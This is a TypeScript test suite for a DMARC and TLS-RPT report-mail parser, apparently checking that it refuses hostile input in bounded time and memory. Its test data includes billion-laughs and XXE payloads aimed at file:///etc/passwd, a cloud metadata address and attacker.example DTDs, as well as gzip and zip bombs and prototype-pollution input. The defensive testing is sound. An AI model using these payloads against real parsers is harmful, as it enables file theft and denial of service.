/**
 * Report mail is untrusted input from the internet. Each hostile input is refused with a
 * recorded reason, in bounded time and memory, and the other reports in the same message are
 * still read. The property tests feed the parser arbitrary bytes and damaged messages: it never
 * throws, and what it returns stays small.
 */
import { gzipSync } from 'node:zlib';
import * as fc from 'fast-check';
import { Zip, ZipDeflate, zipSync } from 'fflate';
import { HOSTILE_RECORDS, hostileMail } from './support/hostile-mail';
import { mail, source } from './support/mail';
import {
  ParseOutcome, ParseOptions, RejectionReason, parseReportFile, parseReportMessage,
} from '../../src/reports';

const GOOD_XML = source('google-dept-2026-05-01.xml');
const GOOD_JSON = source('google-tlsrpt-dept-2026-05-01.json');
const good = { contentType: 'application/gzip', filename: 'good.xml.gz', data: gzipSync(GOOD_XML) };

/** A message with one hostile attachment between two good reports. */
function between(hostile: { contentType: string; filename?: string; data: Uint8Array | string }, options?: ParseOptions): ParseOutcome {
  return parseReportMessage(mail({ parts: [good, hostile, { ...good, filename: 'good2.xml.gz', data: gzipSync(source('yahoo-dept-2026-05-01.xml')) }] }), options);
}

function expectOnlyRejection(outcome: ParseOutcome, reason: RejectionReason, detail?: RegExp): void {
  expect(outcome.reports.map((r) => r.source)).toEqual(['part 1 (good.xml.gz)', 'part 3 (good2.xml.gz)']);
  expect(outcome.rejections).toHaveLength(1);
  expect(outcome.rejections[0]).toMatchObject({ reason, source: expect.stringMatching(/^part 2/) });
  if (detail) expect(outcome.rejections[0].detail).toMatch(detail);
}

function timed<T>(fn: () => T): { value: T; ms: number } {
  const start = process.hrtime.bigint();
  const value = fn();
  return { value, ms: Number(process.hrtime.bigint() - start) / 1e6 };
}

/** A zip written as a stream (sizes not in the local header), of `size` zero bytes. */
function streamedZipOfZeros(name: string, size: number): Uint8Array {
  const chunks: Uint8Array[] = [];
  const zip = new Zip((err, chunk) => {
    if (err) throw err;
    chunks.push(chunk);
  });
  const entry = new ZipDeflate(name, { level: 9 });
  zip.add(entry);
  const block = new Uint8Array(1024 * 1024);
  for (let i = 0; i < size / block.length; i++) entry.push(block, false);
  entry.push(new Uint8Array(0), true);
  zip.end();
  return Buffer.concat(chunks);
}

describe('XML: no entity is ever expanded, nothing is ever fetched', () => {
  const laughs = [
    '<?xml version="1.0"?>',
    '<!DOCTYPE lolz [',
    ' <!ENTITY lol "lol">',
    ...Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`),
    ']>',
    '<feedback><report_metadata><org_name>&lol9;</org_name></report_metadata></feedback>',
  ].join('\n');

  test.each([
    ['billion laughs', laughs],
    ['an external entity (file)', '<?xml version="1.0"?><!DOCTYPE feedback [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><feedback><report_metadata><org_name>&xxe;</org_name></report_metadata></feedback>'],
    ['an external entity (URL)', '<!DOCTYPE feedback [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]><feedback>&xxe;</feedback>'],
    ['a parameter entity', '<!DOCTYPE feedback [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><feedback/>'],
    ['an external DTD', '<!DOCTYPE feedback SYSTEM "http://attacker.example/dmarc.dtd"><feedback/>'],
    ['a lower-case doctype', '<!doctype feedback [<!entity a "b">]><feedback/>'],
    ['an entity declaration with space after <!', '<feedback><!  ENTITY a "b"></feedback>'],
  ])('%s is refused before parsing (xml-doctype), and the other reports are read', (_what, xml) => {
    const { value, ms } = timed(() => between({ contentType: 'text/xml', filename: 'evil.xml', data: xml }));
    expectOnlyRejection(value, RejectionReason.XML_DOCTYPE, /document type or entity declaration/);
    expect(ms).toBeLessThan(2000);
  });

  test('billion laughs inside gzip inside zip is refused the same way', () => {
    const zip = zipSync({ 'evil.xml': Buffer.from(laughs) });
    expectOnlyRejection(between({ contentType: 'application/zip', filename: 'evil.zip', data: zip }), RejectionReason.XML_DOCTYPE);
  });

  test('undeclared entities are left as they are, and only the predefined ones decoded, once', () => {
    const xml = GOOD_XML.replace('<org_name>google.com</org_name>', '<org_name>&amp;lt;&unknown;&#x41;&#0;&#xD800;</org_name>');
    const outcome = parseReportFile('r.xml', Buffer.from(xml));
    expect(outcome.reports[0].report).toMatchObject({ orgName: '&lt;&unknown;A&#0;&#xD800;' });
  });

  test.each([
    ['an unclosed element', GOOD_XML.replace('</feedback>', '')],
    ['mismatched tags', '<feedback><a></b></feedback>'],
    ['nesting deeper than the limit', `<feedback>${'<x>'.repeat(100)}${'</x>'.repeat(100)}</feedback>`],
    ['a __proto__ element', '<feedback><__proto__><polluted>yes</polluted></__proto__></feedback>'],
  ])('%s: xml-malformed', (_what, xml) => {
    expectOnlyRejection(between({ contentType: 'text/xml', filename: 'bad.xml', data: xml }), RejectionReason.XML_MALFORMED);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  test('two root elements are refused', () => {
    const outcome = between({ contentType: 'text/xml', filename: 'bad.xml', data: '<feedback/><feedback/>' });
    expect(outcome.reports).toHaveLength(2);
    expect([RejectionReason.XML_MALFORMED, RejectionReason.DMARC_INVALID]).toContain(outcome.rejections[0].reason);
  });

  test.each([
    ['an HTML page', '<html><body>Not a report</body></html>', /root element is <html>/],
    ['no report_metadata', '<feedback><policy_published><domain>dept.gov.uk</domain></policy_published></feedback>', /report_metadata/],
    ['a policy domain that is not a domain', GOOD_XML.replace('<domain>dept.gov.uk</domain>', '<domain>dept gov uk</domain>'), /not a domain name/],
    ['a count that is not a number', GOOD_XML.replace('<count>1840</count>', '<count>lots</count>'), /not a whole number/],
    ['a source that is not an IP address', GOOD_XML.replace('<source_ip>192.0.2.10</source_ip>', '<source_ip>192.0.2.300</source_ip>'), /not an IP address/],
    ['a begin time that is not a time', GOOD_XML.replace('<begin>1777593600</begin>', '<begin>yesterday</begin>'), /not a time/],
  ])('%s: dmarc-invalid', (_what, xml, detail) => {
    expectOnlyRejection(between({ contentType: 'text/xml', filename: 'bad.xml', data: xml }), RejectionReason.DMARC_INVALID, detail);
  });

  test('more records than the limit: too-many-records', () => {
    const outcome = parseReportFile('big.xml', Buffer.from(GOOD_XML), { limits: { maxDmarcRecords: 2 } });
    expect(outcome.rejections).toEqual([expect.objectContaining({ reason: RejectionReason.TOO_MANY_RECORDS, detail: 'the report has 3 records, more than the limit of 2' })]);
  });

  test('control characters and terminal escapes in report text are removed', () => {
    const xml = GOOD_XML.replace('<org_name>google.com</org_name>', '<org_name>google\u001b[31m.com\u0007</org_name>');
    expect(parseReportFile('r.xml', Buffer.from(xml)).reports[0].report).toMatchObject({ orgName: 'google[31m.com' });
  });

  test('UTF-16 XML with a byte order mark, and a namespace prefix on an RFC 9990 root', () => {
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(GOOD_XML.replace('encoding="UTF-8"', 'encoding="UTF-16"'), 'utf16le')]);
    expect(parseReportFile('r.xml', utf16).reports).toHaveLength(1);
    const prefixed = source('fastmail-dept-rfc9990-2026-05-01.xml')
      .replace('<feedback xmlns="urn:ietf:params:xml:ns:dmarc-2.0">', '<d:feedback xmlns:d="urn:ietf:params:xml:ns:dmarc-2.0">')
      .replace('</feedback>', '</d:feedback>');
    expect(parseReportFile('r.xml', Buffer.from(prefixed)).reports[0].report).toMatchObject({ schema: 'rfc9990' });
  });
});

describe('JSON: bounded before it is parsed', () => {
  test.each([
    ['truncated JSON', GOOD_JSON.slice(0, 100), RejectionReason.JSON_MALFORMED],
    ['JSON nested 100,000 deep', `${'['.repeat(100000)}${']'.repeat(100000)}`.replace(/^\[/, '{"a":[').replace(/\]$/, ']}'), RejectionReason.JSON_MALFORMED],
    ['an object that is not a TLS report', '{"hello":"world"}', RejectionReason.TLSRPT_INVALID],
    ['a negative session count', GOOD_JSON.replace('"total-successful-session-count":2841', '"total-successful-session-count":-1'), RejectionReason.TLSRPT_INVALID],
    ['a date that is not RFC 3339', GOOD_JSON.replace('2026-05-01T00:00:00Z"', 'yesterday"'), RejectionReason.TLSRPT_INVALID],
    ['a policy domain that is not a domain', GOOD_JSON.replace('"policy-domain":"dept.gov.uk"', '"policy-domain":"../../etc"'), RejectionReason.TLSRPT_INVALID],
  ])('%s', (_what, json, reason) => {
    const { value, ms } = timed(() => between({ contentType: 'application/tlsrpt+json', filename: 'bad.json', data: json }));
    expectOnlyRejection(value, reason);
    expect(ms).toBeLessThan(2000);
  });

  test('more failure details than the limit: too-many-records', () => {
    const json = source('microsoft-tlsrpt-dept-2026-05-01.json');
    expectOnlyRejection(between({ contentType: 'application/tlsrpt+json', filename: 'r.json', data: json }, { limits: { maxTlsFailureDetails: 1 } }), RejectionReason.TOO_MANY_RECORDS);
  });
});

describe('archives: bombs stopped at the cap, not after', () => {
  test('a gzip bomb (100 MB of zeros in 100 kB) stops at the per-report limit', () => {
    const bomb = gzipSync(Buffer.alloc(100 * 1024 * 1024));
    expect(bomb.length).toBeLessThan(200 * 1024);
    const { value, ms } = timed(() => between({ contentType: 'application/gzip', filename: 'bomb.xml.gz', data: bomb }));
    expectOnlyRejection(value, RejectionReason.DECOMPRESSED_TOO_LARGE, /decompresses to more than/);
    expect(ms).toBeLessThan(5000);
  });

  test('a zip bomb written as a stream (no sizes to check first) stops at the cap', () => {
    const bomb = streamedZipOfZeros('bomb.xml', 28 * 1024 * 1024);
    expect(bomb.length).toBeLessThan(64 * 1024);
    const { value, ms } = timed(() => between({ contentType: 'application/zip', filename: 'bomb.zip', data: bomb }));
    expectOnlyRejection(value, RejectionReason.DECOMPRESSED_TOO_LARGE, /more than \d+ bytes/);
    expect(ms).toBeLessThan(5000);
  });

  test('a zip entry that declares more than the limit is not decompressed at all', () => {
    const zip = zipSync({ 'big.xml': new Uint8Array(2 * 1024 * 1024) });
    expectOnlyRejection(between({ contentType: 'application/zip', filename: 'big.zip', data: zip }, { limits: { maxReportBytes: 1024 * 1024 } }),
      RejectionReason.DECOMPRESSED_TOO_LARGE, /declares/);
  });

  test('a zip with more entries than the limit', () => {
    const entries = Object.fromEntries(Array.from({ length: 11 }, (_, i) => [`r${i}.xml`, Buffer.from(GOOD_XML)]));
    expectOnlyRejection(between({ contentType: 'application/zip', filename: 'many.zip', data: zipSync(entries) }), RejectionReason.ARCHIVE_REJECTED, /more than 10 entries/);
  });

  test.each([
    ['a zip inside a zip', zipSync({ 'inner.zip': zipSync({ 'r.xml': Buffer.from(GOOD_XML) }) })],
    ['a gzip inside a gzip', gzipSync(gzipSync(GOOD_XML))],
  ])('%s: archives inside archives are not read', (_what, data) => {
    expectOnlyRejection(between({ contentType: 'application/octet-stream', filename: 'nested.gz', data }), RejectionReason.ARCHIVE_REJECTED);
  });

  test('damaged gzip and zip data', () => {
    const gz = gzipSync(GOOD_XML);
    gz[gz.length - 20] = 255 - gz[gz.length - 20];
    expectOnlyRejection(between({ contentType: 'application/gzip', filename: 'bad.gz', data: gz }), RejectionReason.DECOMPRESSION_FAILED);
    const zip = zipSync({ 'r.xml': Buffer.from(GOOD_XML) });
    expectOnlyRejection(between({ contentType: 'application/zip', filename: 'bad.zip', data: zip.subarray(0, 60) }), RejectionReason.DECOMPRESSION_FAILED);
  });

  test('the decompression budget is per message: once spent, later attachments are refused', () => {
    const size = Buffer.byteLength(GOOD_XML);
    const limits = { maxReportBytes: 16 * size, maxTotalDecompressedBytes: Math.floor(1.5 * size) };
    const outcome = parseReportMessage(mail({ parts: ['a', 'b', 'c'].map((n) => ({ contentType: 'application/gzip', filename: `${n}.xml.gz`, data: gzipSync(GOOD_XML) })) }), { limits });
    expect(outcome.reports.map((r) => r.source)).toEqual(['part 1 (a.xml.gz)']);
    expect(outcome.rejections).toEqual([
      expect.objectContaining({ source: 'part 2 (b.xml.gz)', reason: RejectionReason.DECOMPRESSED_TOO_LARGE }),
      expect.objectContaining({ source: 'part 3 (c.xml.gz)', reason: RejectionReason.DECOMPRESSED_TOO_LARGE }),
    ]);
  });
});

describe('the message itself', () => {
  test('an attachment over the size limit is refused without decoding it; the others are read', () => {
    expectOnlyRejection(between({ contentType: 'application/gzip', filename: 'huge.gz', data: Buffer.alloc(300 * 1024, 1) }, { limits: { maxAttachmentBytes: 200 * 1024 } }),
      RejectionReason.ATTACHMENT_TOO_LARGE);
  });

  test('a message over the size limit is refused whole', () => {
    const outcome = parseReportMessage(mail({ parts: [good] }), { limits: { maxMessageBytes: 100 } });
    expect(outcome).toEqual({ reports: [], ignored: [], rejections: [expect.objectContaining({ source: 'message', reason: RejectionReason.MESSAGE_TOO_LARGE })] });
  });

  test.each([
    ['PNG bytes sent as application/gzip', 'application/gzip', 'r.xml.gz', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), RejectionReason.UNSUPPORTED_CONTENT, /89 50 4e 47.*sent as application\/gzip/],
    ['an empty attachment', 'application/zip', 'r.zip', Buffer.alloc(0), RejectionReason.UNSUPPORTED_CONTENT, /empty/],
    ['an executable named as a report', 'application/octet-stream', 'report.xml', Buffer.from('4d5a90000300000004000000ffff0000', 'hex'), RejectionReason.UNSUPPORTED_CONTENT, /4d 5a/],
  ])('%s', (_what, contentType, filename, data, reason, detail) => {
    expectOnlyRejection(between({ contentType, filename, data }), reason, detail);
  });

  test('parts that are not reports (an image, a signature) are ignored, not rejected', () => {
    const outcome = between({ contentType: 'image/png', filename: 'logo.png', data: Buffer.from('89504e47', 'hex') });
    expect(outcome.rejections).toEqual([]);
    expect(outcome.ignored).toEqual(['part 2 (logo.png): image/png']);
  });

  test.each([
    ['ordinary mail to the report address', mail({ parts: [{ contentType: 'text/plain', data: 'Can you unsubscribe me?', encoding: '7bit' }] })],
    ['a report disguised as an image', mail({ parts: [{ contentType: 'image/png', filename: 'photo.png', data: gzipSync(GOOD_XML) }] })],
  ])('%s: not-a-report', (_what, raw) => {
    expect(parseReportMessage(raw).rejections).toEqual([expect.objectContaining({ source: 'message', reason: RejectionReason.NOT_A_REPORT })]);
  });

  test('SES found a virus: nothing in the message is opened', () => {
    const raw = Buffer.concat([Buffer.from('X-SES-Virus-Verdict: FAIL\r\nX-SES-Spam-Verdict: PASS\r\n'), mail({ parts: [good] })]);
    expect(parseReportMessage(raw)).toEqual({ reports: [], ignored: [], rejections: [expect.objectContaining({ reason: RejectionReason.VIRUS })], headers: expect.arrayContaining([['x-ses-virus-verdict', 'FAIL']]) });
    const forged = Buffer.concat([Buffer.from('X-SES-Virus-Verdict: PASS\r\n'), mail({ parts: [good], headers: ['X-SES-Virus-Verdict: FAIL'] })]);
    expect(parseReportMessage(forged).reports).toHaveLength(1);
  });

  test('more report attachments than the limit: the first are read, the rest refused', () => {
    const outcome = parseReportMessage(mail({ parts: Array.from({ length: 4 }, (_, i) => ({ ...good, filename: `r${i}.xml.gz` })) }), { limits: { maxAttachments: 2 } });
    expect(outcome.reports).toHaveLength(2);
    expect(outcome.rejections.map((r) => r.reason)).toEqual([RejectionReason.TOO_MANY_ATTACHMENTS, RejectionReason.TOO_MANY_ATTACHMENTS]);
  });

  test.each([
    ['more parts than the limit', mail({ parts: Array.from({ length: 70 }, () => ({ contentType: 'text/plain', data: 'x', encoding: '7bit' as const })) }), RejectionReason.TOO_MANY_PARTS],
    ['multiparts nested deeper than the limit', Buffer.from([
      'From: a@b.example', 'Content-Type: multipart/mixed; boundary=b0', '',
      ...Array.from({ length: 10 }, (_, i) => [`--b${i}`, `Content-Type: multipart/mixed; boundary=b${i + 1}`, '']).flat(),
    ].join('\r\n')), RejectionReason.TOO_MANY_PARTS],
    ['a multipart without a boundary', Buffer.from('From: a@b.example\r\nContent-Type: multipart/mixed\r\n\r\nbody'), RejectionReason.MALFORMED_MIME],
    ['bytes with no header section', Buffer.from([0, 1, 2, 3, 255, 254]), RejectionReason.MALFORMED_MIME],
    ['a header section longer than the limit', Buffer.from(`From: a@b.example\r\nX-Long: ${'a'.repeat(300 * 1024)}\r\n\r\nbody`), RejectionReason.MALFORMED_MIME],
  ])('%s', (_what, raw, reason) => {
    expect(parseReportMessage(raw).rejections).toEqual([expect.objectContaining({ source: 'message', reason })]);
  });
});

describe('property: the parser never throws, and stays bounded', () => {
  /** What any outcome must look like. */
  function wellFormed(outcome: ParseOutcome, inputBytes: number): void {
    expect(Array.isArray(outcome.reports) && Array.isArray(outcome.rejections) && Array.isArray(outcome.ignored)).toBe(true);
    for (const r of outcome.rejections) {
      expect(Object.values(RejectionReason)).toContain(r.reason);
      expect(typeof r.detail).toBe('string');
    }
    // Nothing is expanded: what comes out is never much larger than what went in.
    expect(JSON.stringify(outcome).length).toBeLessThan(inputBytes * 8 + 20_000);
  }

  test('arbitrary bytes as a message, and as a file', () => {
    fc.assert(fc.property(fc.uint8Array({ maxLength: 4096 }), (bytes) => {
      wellFormed(parseReportMessage(bytes), bytes.length);
      wellFormed(parseReportFile('fuzz.bin', bytes), bytes.length);
    }), { numRuns: 300 });
  });

  test('arbitrary bytes after report-like headers', () => {
    const header = (type: string) => Buffer.from(`From: a@b.example\r\nContent-Type: ${type}\r\nContent-Transfer-Encoding: base64\r\n\r\n`);
    fc.assert(fc.property(fc.constantFrom('application/gzip', 'application/zip', 'text/xml', 'multipart/mixed; boundary=x', 'message/rfc822'), fc.uint8Array({ maxLength: 4096 }),
      (type, bytes) => {
        const raw = Buffer.concat([header(type), Buffer.from(Buffer.from(bytes).toString('base64'))]);
        wellFormed(parseReportMessage(raw), raw.length);
      }), { numRuns: 300 });
  });

  test('corpus messages damaged at random: bytes flipped, cut, and spliced', () => {
    const base = mail({
      parts: [
        { contentType: 'application/zip', filename: 'r.zip', data: zipSync({ 'r.xml': Buffer.from(GOOD_XML) }) },
        { contentType: 'application/gzip', filename: 'r.json.gz', data: gzipSync(GOOD_JSON) },
        { contentType: 'text/xml', filename: 'r.xml', data: GOOD_XML, encoding: 'quoted-printable' },
      ],
    });
    fc.assert(fc.property(
      fc.array(fc.tuple(fc.nat({ max: base.length - 1 }), fc.integer({ min: 0, max: 255 })), { maxLength: 20 }),
      fc.option(fc.nat({ max: base.length }), { nil: undefined }),
      (flips, cut) => {
        const raw = Buffer.from(base.subarray(0, cut ?? base.length));
        for (const [at, value] of flips) if (at < raw.length) raw[at] = value;
        const { value, ms } = timed(() => parseReportMessage(raw));
        wellFormed(value, raw.length);
        expect(ms).toBeLessThan(2000);
      }), { numRuns: 200 });
  });

  test('arbitrary XML-like text and arbitrary JSON as report files', () => {
    const tag = fc.constantFrom('feedback', 'record', 'row', 'count', 'source_ip', 'report_metadata', 'policy_published', 'domain', '!DOCTYPE', '!ENTITY', '?xml', '![CDATA[');
    const xmlish = fc.array(fc.oneof(tag.map((t) => `<${t}>`), tag.map((t) => `</${t}>`), fc.string({ maxLength: 20 }), fc.constantFrom('&amp;', '&#x41;', '&lt;', '&x;')), { maxLength: 60 })
      .map((bits) => bits.join(''));
    fc.assert(fc.property(xmlish, (xml) => {
      const data = Buffer.from(`<${xml}`);
      wellFormed(parseReportFile('fuzz.xml', data), data.length);
    }), { numRuns: 300 });
    fc.assert(fc.property(fc.jsonValue({ maxDepth: 6 }), (value) => {
      const data = Buffer.from(`{"policies":${JSON.stringify(value) ?? 'null'}}`);
      wellFormed(parseReportFile('fuzz.json', data), data.length);
    }), { numRuns: 300 });
  });
});

describe('a row bound: rows past it are never parsed', () => {
  test('the hostile mail (315 KB, two gzip attachments, ~158,000 rows) read up to 1,000 rows', () => {
    const raw = hostileMail();
    expect(raw.length).toBeLessThan(320 * 1024);
    const { value, ms } = timed(() => parseReportMessage(raw, { maxRows: 1000 }));
    expect(value.rejections).toEqual([]);
    expect(value.reports.map((r) => (r.report.kind === 'dmarc' ? r.report.records.length : -1))).toEqual([1000, 0]);
    expect(value.reports.map((r) => r.rowsDropped)).toEqual([HOSTILE_RECORDS - 1000, HOSTILE_RECORDS]);
    expect(ms).toBeLessThan(10_000);
  });

  test('property: a bounded parse gives the first rows of the whole parse, and counts the rest', () => {
    const xml = source('google-dept-2026-05-01.xml');
    const prefixed = source('fastmail-dept-rfc9990-2026-05-01.xml')
      .replace('<feedback xmlns="urn:ietf:params:xml:ns:dmarc-2.0">', '<d:feedback xmlns:d="urn:ietf:params:xml:ns:dmarc-2.0">')
      .replace('</feedback>', '</d:feedback>')
      .replace(/<(\/?)(record|row|source_ip|count|policy_evaluated|disposition|dkim|spf|identifiers|header_from|auth_results|domain|result|selector|scope|report_metadata|org_name|email|report_id|date_range|begin|end|policy_published|p|sp|np|adkim|aspf|fo|testing|discovery_method|version|generator|envelope_from|envelope_to|human_result|extra_contact_info|reason|type|comment)>/g, '<$1d:$2>');
    const json = source('microsoft-tlsrpt-dept-2026-05-01.json');
    fc.assert(fc.property(fc.constantFrom(xml, prefixed, json), fc.nat({ max: 6 }), (text, cap) => {
      const whole = parseReportFile('r', Buffer.from(text));
      const bounded = parseReportFile('r', Buffer.from(text), { maxRows: cap });
      expect(whole.rejections).toEqual([]);
      expect(bounded.rejections).toEqual([]);
      const rowsOf = (o: ParseOutcome): unknown[] => o.reports.flatMap((r): unknown[] => (r.report.kind === 'dmarc' ? r.report.records : r.report.policies));
      const all = rowsOf(whole);
      expect(rowsOf(bounded)).toEqual(all.slice(0, cap));
      expect(bounded.reports[0].rowsDropped ?? 0).toBe(Math.max(0, all.length - cap));
      const { records: _r, policies: _p, ...rest } = whole.reports[0].report as unknown as Record<string, unknown>;
      expect(bounded.reports[0].report).toMatchObject(rest);
    }), { numRuns: 60 });
  });

  test('more records than the per-report limit is still a rejection when a row bound is given', () => {
    const outcome = parseReportFile('big.xml', Buffer.from(GOOD_XML), { limits: { maxDmarcRecords: 2 }, maxRows: 1 });
    expect(outcome.rejections).toEqual([expect.objectContaining({ reason: RejectionReason.TOO_MANY_RECORDS, detail: 'the report has 3 records, more than the limit of 2' })]);
  });
});
